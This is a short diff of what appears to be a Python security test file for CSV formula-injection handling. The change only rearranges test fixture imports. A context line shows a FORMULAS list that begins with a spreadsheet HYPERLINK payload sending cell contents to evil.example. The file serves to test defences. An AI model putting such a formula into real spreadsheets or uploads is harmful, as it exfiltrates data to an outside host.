@@ -29,10 +29,10 @@ from course.core.spreadsheets import FORMULA_STARTS, neutralised
 from course.extensions import db
 from course.organisations.invitations import read_invitation_csv
 from course.organisations.models import Invitation, Membership
-from tests.conftest import post_form, sign_in
-from tests.factories import STRONG_PASSWORD, make_user
-from tests.security.conftest import MANAGER, Site
-from tests.test_organisation_invitations import upload
+from tests.fixtures.factories import STRONG_PASSWORD, make_user
+from tests.fixtures.organisations import upload
+from tests.fixtures.security_site import MANAGER, Site
+from tests.fixtures.web import post_form, sign_in
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
